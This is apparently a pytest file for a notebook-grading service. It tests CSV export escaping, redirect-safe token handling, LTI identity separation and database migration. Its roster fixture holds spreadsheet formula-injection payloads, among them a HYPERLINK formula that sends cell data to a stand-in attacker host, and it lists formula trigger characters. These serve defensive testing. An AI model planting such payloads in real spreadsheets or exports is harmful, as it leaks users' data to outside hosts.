"""Issue 27, items 4 to 7: identities and passback, what was graded, exports, credentials.

Against a real `convgrade serve` (tests/service_harness.py, real SQLite), the real LTI
platform library of tests/test_lti.py (tests/lti_platform.py), nbgrader's real gradebook,
openpyxl for what a spreadsheet makes of a CSV, and loopback HTTP servers for a grader
that redirects. About 90 s on 2 vCPU (two service starts, a handful of gradings).
"""

import csv
import http.server
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import threading

import pytest
import requests

from service_harness import REPO, Client, Service, error_of, free_port, signed_in
from submissions import make_submission

A1 = "a1_cross_correlation"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A2,"grades")'


# -- the service, with a roster whose names are formulas --------------------------------------

@pytest.fixture(scope="module")
def served(tmp_path_factory):
    running = Service(tmp_path_factory.mktemp("data-security"))
    roster = running.data_dir / "roster.csv"
    with roster.open("w", newline="") as f:
        csv.writer(f).writerows([["student_id", "name"], ["s1", HYPERLINK], ["s2", "+1+2"], ["s3", "@SUM(1,1)"],
                                 ["s4", "-2+3"]])
    out = subprocess.run([sys.executable, "-m", "grader.cli", "students", "import", str(roster)], cwd=REPO,
                         env=running.env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    running.tokens = dict(line.split(",") for line in out.stdout.strip().splitlines()[1:])
    running.start()
    yield running
    running.stop()


def as_spreadsheet(text, tmp_path):
    """What a spreadsheet makes of a CSV: each cell a number where it reads as one, else text
    (openpyxl, like Excel and LibreOffice, makes text that starts with '=' a formula); saved
    as .xlsx and read back. Returns the worksheet."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in csv.reader(io.StringIO(text)):
        sheet.append([_number_or_text(value) for value in row])
    book.save(tmp_path / "export.xlsx")
    return openpyxl.load_workbook(tmp_path / "export.xlsx").active


def _number_or_text(value):
    try:
        return float(value)
    except ValueError:
        return value


def assert_no_formula(text, tmp_path, numeric=()):
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    sheet = as_spreadsheet(text, tmp_path)
    header = [c.value for c in sheet[1]]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], f"cells a spreadsheet runs as formulas: {formulas}"
    for column in numeric:
        cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "n" for c in cells), f"{column} is not numeric: {[c.value for c in cells]}"
    return rows


@pytest.mark.parametrize("layout, numeric", [("long", ("score", "max_score", "submissions")),
                                             ("wide", (A1, "total", "max_total"))])
def test_gradebook_exports_are_data(served, tmp_path, layout, numeric):
    response = Client(served.url, served.admin_token).get(f"/api/v1/gradebook.csv?layout={layout}")
    assert response.status_code == 200, response.text
    rows = assert_no_formula(response.text, tmp_path, numeric)
    names = {row["student_id"]: row["name"] for row in rows}
    assert names["s1"] == "'" + HYPERLINK and names["s2"] == "'+1+2" and names["s4"] == "'-2+3", \
        "the name is kept, as text"


def test_grade_out_and_nbgrader_export_are_data(tmp_path):
    """`convgrade grade TREE --out` and `--gradebook --export` (nbgrader's export): a student
    folder named like a formula is text in both files, the scores are numbers."""
    student = "@SUM(1+1)"
    folder = tmp_path / "submitted" / student / A1
    folder.mkdir(parents=True)
    (folder / f"{A1}.ipynb").write_bytes(make_submission(A1))
    grades, export = tmp_path / "grades.csv", tmp_path / "export.csv"
    run = subprocess.run([sys.executable, "-m", "grader.cli", "grade", str(tmp_path / "submitted"), "--out",
                          str(grades), "--gradebook", f"sqlite:///{tmp_path / 'gradebook.db'}", "--export", str(export)],
                         cwd=REPO, capture_output=True, text=True, timeout=300,
                         env={**os.environ, "CONVGRADE_DATA_DIR": str(tmp_path / "data")})
    assert run.returncode == 0, run.stderr
    [row] = assert_no_formula(grades.read_text(), tmp_path, ("score", "max_score", "credited_score"))
    assert row["student"] == "'" + student and float(row["score"]) == float(row["max_score"]) > 0
    [row] = assert_no_formula(export.read_text(), tmp_path, ("raw_score", "score", "max_score"))
    assert row["student_id"] == "'" + student and float(row["score"]) > 0


# -- what was graded is what the reports read --------------------------------------------------

def invalid_outputs_v3():
    """An nbformat 3 notebook, the reference answers, one output with no output_type: the
    upload check drops outputs first, so it is accepted and graded; nbformat cannot read it."""
    data = json.loads(make_submission(A1, version=3))
    code = next(c for c in data["worksheets"][0]["cells"] if c["cell_type"] == "code")
    code["outputs"] = [{"text": "an output without a type"}]
    return json.dumps(data).encode()


def similarity_page(served):
    browser, _ = signed_in(served, served.admin_token)
    return browser.get(f"{served.url}/instructor/similarity/{A1}?threshold=0", timeout=120)


def test_a_bad_stored_notebook_never_hides_the_report(served):
    first = Client(served.url, served.tokens["s1"]).submit(make_submission(A1), filename=f"{A1}.ipynb")
    odd = Client(served.url, served.tokens["s2"]).submit(invalid_outputs_v3(), filename=f"{A1}.ipynb")
    assert first.status_code == odd.status_code == 202, (first.text, odd.text)
    done = Client(served.url, served.admin_token).wait_done([first.json()["id"], odd.json()["id"]])
    assert done[odd.json()["id"]]["score"] == done[odd.json()["id"]]["max_score"] > 0
    [row] = served.rows(f"id = '{odd.json()['id']}'")
    graded = json.loads((served.data_dir / row["graded_path"]).read_text())
    assert graded["nbformat"] == 4 and all(c.get("outputs", []) == [] for c in graded["cells"]), \
        "the notebook graded is kept, normalised, beside the upload"
    assert (served.data_dir / row["path"]).read_bytes() == invalid_outputs_v3(), "the upload is kept as sent"

    page = similarity_page(served)
    assert page.status_code == 200, page.text
    assert "2 student(s)" in page.text and 'data-a="s1" data-b="s2"' in page.text, "the identical pair is found"

    (served.data_dir / row["graded_path"]).write_text("{ not a notebook")   # a file gone bad on disk
    page = similarity_page(served)
    assert page.status_code == 200, page.text
    assert re.search(r"<li>s2 is left out: submission \w+ could not be read", page.text), page.text
    assert "1 student(s)" in page.text


def test_too_many_form_parts_names_the_parts_limit(served):
    fields = [("field", (None, "x")) for _ in range(5000)]
    fields.append(("notebook", (f"{A1}.ipynb", make_submission(A1), "application/x-ipynb+json")))
    response = requests.post(served.url + "/api/v1/submissions", files=fields, timeout=120,
                             headers={"Authorization": f"Bearer {served.tokens['s3']}"})
    assert response.status_code == 413
    error = error_of(response)
    assert "1000 parts" in error and "MiB" not in error, error


# -- the client sends its token to the grader's origin only -----------------------------------

class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers like the grader's assignment list, and records the Authorization it got; or,
    with `location`, redirects every request there."""

    def do_GET(self):
        self.server.seen.append(self.headers.get("Authorization"))
        if self.server.location and not self.path.startswith("/here"):
            self.send_response(302)
            self.send_header("Location", self.server.location + self.path)
            self.end_headers()
            return
        body = json.dumps({"assignments": [], "submissions": []}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args):
        pass


def serve(location=None):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Recorder)
    server.seen, server.location = [], location
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.fixture
def redirecting():
    """A grader address that 302s to another loopback port, under another host name."""
    elsewhere = serve()
    grader = serve(location=f"http://localhost:{elsewhere.server_port}")
    yield grader, elsewhere
    grader.shutdown()
    elsewhere.shutdown()


def test_the_client_refuses_a_redirect_to_another_origin(redirecting):
    from grader.doors.submit import GraderClient, SubmitError

    grader, elsewhere = redirecting
    with pytest.raises(SubmitError) as refused:
        GraderClient(f"http://127.0.0.1:{grader.server_port}", "the-students-token").assignments()
    assert grader.seen == ["Bearer the-students-token"] and elsewhere.seen == [], "no token at the other host"
    assert "redirected to http://localhost:" in str(refused.value) and "never sent there" in str(refused.value)

    grader.location = f"http://127.0.0.1:{grader.server_port}/here"   # the grader's own origin: followed
    assert GraderClient(f"http://127.0.0.1:{grader.server_port}", "the-students-token").assignments() == []


def test_convgrade_submit_sends_no_token_across_hosts(redirecting, tmp_path):
    grader, elsewhere = redirecting
    notebook = tmp_path / f"{A1}.ipynb"
    notebook.write_bytes(make_submission(A1))
    done = subprocess.run([sys.executable, "-m", "grader.cli", "submit", str(notebook), "--server",
                           f"http://127.0.0.1:{grader.server_port}", "--token", "the-students-token"],
                          cwd=REPO, env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)},
                          capture_output=True, text=True, timeout=120)
    assert elsewhere.seen == [], "the token went to the host the grader redirected to"
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done
    assert "redirected" in done.stderr


def test_the_lab_handler_sends_the_hub_token_to_the_grader_only(redirecting, tmp_path, monkeypatch):
    """On a hub the Lab handler sends the user's hub token to the admin-set grader address."""
    from grader.doors.lab import handlers
    from grader.doors.submit import SubmitError

    grader, elsewhere = redirecting
    monkeypatch.setenv("JUPYTERLAB_SETTINGS_DIR", str(tmp_path / "settings"))
    monkeypatch.setenv("CONVGRADE_URL", f"http://127.0.0.1:{grader.server_port}")
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "the-users-hub-token")
    monkeypatch.delenv("CONVGRADE_TOKEN", raising=False)
    with pytest.raises(SubmitError, match="redirected"):
        handlers.overview(A1)
    assert grader.seen and elsewhere.seen == []


# -- LTI: an identity is (issuer, client id, deployment, sub); a score goes to its launch's line item

@pytest.fixture(scope="module")
def two_lms(tmp_path_factory):
    """Two platforms on one host (their issuers differ by path only), one tool trusting both."""
    from lti_platform import Platform, rsa_pem_pair

    root = tmp_path_factory.mktemp("two-lms")
    first, second = Platform().serve(), Platform().serve()
    first.issuer, second.issuer = "https://lms.example.edu", "https://lms.example.edu/second-site"
    private, public = rsa_pem_pair()
    (root / "tool_private.pem").write_text(private)
    (root / "tool_public.pem").write_text(public)
    config = root / "lti.json"
    config.write_text(json.dumps({**first.tool_config(root / "tool_private.pem", root / "tool_public.pem"),
                                  **second.tool_config(root / "tool_private.pem", root / "tool_public.pem")}))
    service = Service(root / "data", lti_config=config, lti_retry_seconds=1, workers=1)
    service.start()
    first.tool_url = second.tool_url = service.url
    yield first, second, service
    service.stop()
    first.stop()
    second.stop()


def launched(platform, service, user_id, **options):
    """A browser signed in by a launch, and the CSRF token of the page it lands on."""
    from test_lti import launch

    browser = requests.Session()
    _, _, response = launch(platform, browser, user_id=user_id, custom={"assignment": A1}, **options)
    assert response.status_code == 303, response.text
    page = browser.get(service.url + response.headers["Location"], timeout=30)
    browser.csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    return browser


def submit_as(browser, service, wait=None):
    files = {"notebook": (f"{A1}.ipynb", make_submission(A1), "application/x-ipynb+json")}
    response = browser.post(service.url + "/api/v1/submissions" + (f"?wait={wait}" if wait else ""), files=files,
                            headers={"X-CSRF-Token": browser.csrf}, timeout=(wait or 0) + 60)
    assert response.status_code in (200, 202), response.text
    return response.json()


def mine(browser, service):
    response = browser.get(service.url + "/api/v1/submissions", timeout=30)
    assert response.status_code == 200, response.text
    return response.json()["submissions"]


def test_two_platforms_on_one_host_are_two_students(two_lms):
    first, second, service = two_lms
    at_first = launched(first, service, "7", name="Seven of the first site")
    submitted = submit_as(at_first, service)
    at_second = launched(second, service, "7", name="Seven of the second site")
    assert mine(at_second, service) == [], "user 7 of the second site reads user 7 of the first site's work"
    [own] = mine(at_first, service)
    assert own["id"] == submitted["id"]
    assert at_second.get(f"{service.url}/api/v1/submissions/{submitted['id']}", timeout=30).status_code == 404
    with sqlite3.connect(service.data_dir / "convgrade.sqlite3") as db:
        names = dict(db.execute("SELECT name, student_id FROM students WHERE name LIKE 'Seven%'"))
    assert len(set(names.values())) == 2 and own["student_id"] == names["Seven of the first site"]


def test_a_regrade_lands_on_the_line_item_its_score_came_from(two_lms):
    first, _, service = two_lms
    course_one = launched(first, service, "u-two-courses", resource_link_id="rl-course-1")
    graded = submit_as(course_one, service, wait=240)
    assert graded["status"] == "done", graded
    from test_lti import wait_until

    assert wait_until(lambda: [s for s in first.scores if s["lineitem"] == "rl-course-1"], timeout=60)
    first.context_id = "course-2"
    try:
        launched(first, service, "u-two-courses", resource_link_id="rl-course-2")
    finally:
        first.context_id = "course-conv101"
    from service_harness import convgrade

    regrade = convgrade(service.env, "regrade", "--submission", graded["id"], "--wait", "240",
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    _, err = regrade.communicate(timeout=300)
    assert regrade.returncode == 0, err
    assert wait_until(lambda: len([s for s in first.scores if s["lineitem"] == "rl-course-1"]) == 2, timeout=60), \
        first.scores
    assert [s for s in first.scores if s["lineitem"] == "rl-course-2"] == [], "course 1's score went to course 2"


@pytest.mark.parametrize("change, words", [
    ({"iss": "https://unknown.example.edu"}, "no platform with the issuer"),
    ({"client_id": "a-client-nobody-registered"}, "no registration with the client id"),
    ({"lti_deployment_id": "a-deployment-nobody-registered"}, "no deployment"),
])
def test_an_unknown_platform_at_login_is_refused_in_a_sentence(two_lms, change, words):
    first, _, service = two_lms
    params = {"iss": first.issuer, "client_id": first.client_id, "login_hint": "u-1",
              "target_link_uri": service.url + "/lti/launch", "lti_deployment_id": first.deployment_id, **change}
    response = requests.get(service.url + "/lti/login", params=params, allow_redirects=False, timeout=30)
    assert response.status_code == 400 and words in error_of(response), response.text


def test_an_unknown_issuer_at_launch_is_refused_in_a_sentence(two_lms):
    """A platform the tool does not know answers the tool's auth request: its id_token names
    an issuer no registration has."""
    from lti_platform import Platform

    first, _, service = two_lms
    stranger = Platform().serve()
    try:
        stranger.issuer, stranger.client_id, stranger.tool_url = "https://unknown.example.edu", first.client_id, service.url
        stranger.launches = first.launches
        browser = requests.Session()
        login = browser.get(first.start_launch("u-1", custom={"assignment": A1}), allow_redirects=False, timeout=30)
        assert login.status_code == 302, login.text
        form = browser.get(login.headers["Location"].replace(first.url, stranger.url), timeout=30)
        assert form.status_code == 200, form.text
        from html import unescape

        action = unescape(re.search(r'action="([^"]+)"', form.text).group(1))
        fields = {k: unescape(v) for k, v in re.findall(r'name="(\w+)" value="([^"]*)"', form.text)}
        response = browser.post(action, data=fields, allow_redirects=False, timeout=30)
    finally:
        stranger.stop()
    assert response.status_code == 401 and "no platform with the issuer" in error_of(response), response.text


@pytest.fixture(params=["sqlite", "postgresql"])
def empty_database(request, tmp_path):
    """A new database: a SQLite file, or a throwaway PostgreSQL cluster (tests/real_engines.py)."""
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'old.sqlite3'}"
        return
    from real_engines import postgres_cluster, postgres_missing_reason

    if postgres_missing_reason():
        pytest.skip(postgres_missing_reason())
    with postgres_cluster(free_port()) as url:
        yield url


OLD_LTI_SCHEMA = [
    """CREATE TABLE lti_links (student_id VARCHAR(200) NOT NULL, assignment VARCHAR(200) NOT NULL,
        issuer VARCHAR(400) NOT NULL, client_id VARCHAR(400) NOT NULL, lti_user_id VARCHAR(400) NOT NULL,
        ags_json TEXT NOT NULL, updated_at TIMESTAMP NOT NULL, PRIMARY KEY (student_id, assignment))""",
    """CREATE TABLE lti_contexts (issuer VARCHAR(400) NOT NULL, context_id VARCHAR(400) NOT NULL,
        client_id VARCHAR(400) NOT NULL, title VARCHAR(400) NOT NULL, nrps_json TEXT NOT NULL,
        updated_at TIMESTAMP NOT NULL, PRIMARY KEY (issuer, context_id))""",
    """CREATE TABLE passbacks (id INTEGER NOT NULL PRIMARY KEY, submission_id VARCHAR(32) NOT NULL,
        student_id VARCHAR(200) NOT NULL, assignment VARCHAR(200) NOT NULL, score FLOAT NOT NULL,
        max_score FLOAT NOT NULL, graded_at TIMESTAMP NOT NULL, status VARCHAR(16) NOT NULL,
        attempts INTEGER NOT NULL, next_attempt_at TIMESTAMP NOT NULL, claimed_at TIMESTAMP,
        last_error TEXT, sent_at TIMESTAMP)"""]


def test_old_launch_links_are_carried_over(empty_database):
    """A database from before identities and launches: lti_links (one row per student and
    assignment, the host-only student ids), passbacks without a launch, contexts without a
    deployment. Opened now, its links are launches, its users identities, claimed by the
    next launch; a student the old ids had merged from two users is carried to neither."""
    import datetime

    from sqlalchemy import create_engine, inspect

    from grader.doors.lti import links
    from grader.store.lti_tables import ensure_tables

    url, ags = empty_database, json.dumps({"lineitem": "https://lms.example.edu/lineitems/rl-a1", "scope": []})
    old = create_engine(url)
    with old.begin() as db:
        for statement in OLD_LTI_SCHEMA:
            db.exec_driver_sql(statement)
        for row in [("lti:ada@lms.example.edu", A1, "https://lms.example.edu", "c1", "ada", "2026-09-01 10:00:00"),
                    ("lti:7@lms.example.edu", A1, "https://lms.example.edu", "c1", "7", "2026-09-01 10:00:00"),
                    ("lti:7@lms.example.edu", "a2_padding_stride_channels", "https://lms.example.edu/second-site",
                     "c2", "7", "2026-09-02 10:00:00")]:
            db.exec_driver_sql("INSERT INTO lti_links VALUES (%(s)s, %(a)s, %(i)s, %(c)s, %(u)s, %(j)s, %(t)s)"
                               if url.startswith("postgresql") else
                               "INSERT INTO lti_links VALUES (:s, :a, :i, :c, :u, :j, :t)",
                               dict(zip("saicujt", (*row[:5], ags, row[5]))))
    old.dispose()

    engine = ensure_tables(url)
    with engine.connect() as db:
        tables = set(inspect(db).get_table_names())
        launches = db.exec_driver_sql("SELECT student_id, issuer, client_id, deployment_id, lineitem, launched_at "
                                      "FROM lti_launches ORDER BY id").all()
        identities = db.exec_driver_sql("SELECT issuer, client_id, deployment_id, sub, student_id "
                                        "FROM lti_identities").all()
        passback_columns = {c["name"] for c in inspect(db).get_columns("passbacks")}
        context_columns = {c["name"] for c in inspect(db).get_columns("lti_contexts")}
    assert "lti_links" not in tables and "launch_id" in passback_columns and "deployment_id" in context_columns
    assert len(launches) == 3 and tuple(launches[0][:5]) == (
        "lti:ada@lms.example.edu", "https://lms.example.edu", "c1", "", "https://lms.example.edu/lineitems/rl-a1")
    assert str(launches[0][5]).startswith("2026-09-01 10:00:00") or launches[0][5] == datetime.datetime(2026, 9, 1, 10)
    assert [tuple(r) for r in identities] == [("https://lms.example.edu", "c1", "", "ada", "lti:ada@lms.example.edu")], \
        "the merged student is carried to neither of its two users"

    assert links.student_for(url, "https://lms.example.edu", "c1", "d1", "ada") == "lti:ada@lms.example.edu", \
        "the next launch claims the carried identity: ada keeps her submissions"
    seven_first = links.student_for(url, "https://lms.example.edu", "c1", "d1", "7")
    seven_second = links.student_for(url, "https://lms.example.edu/second-site", "c2", "d1", "7")
    assert len({seven_first, seven_second, "lti:7@lms.example.edu"}) == 3
    assert links.student_for(url, "https://lms.example.edu", "c1", "d1", "7") == seven_first, "stable"
    ensure_tables.cache_clear()
    ensure_tables(url)   # a second start changes nothing
    with engine.connect() as db:
        assert db.exec_driver_sql("SELECT count(*) FROM lti_launches").scalar() == 3
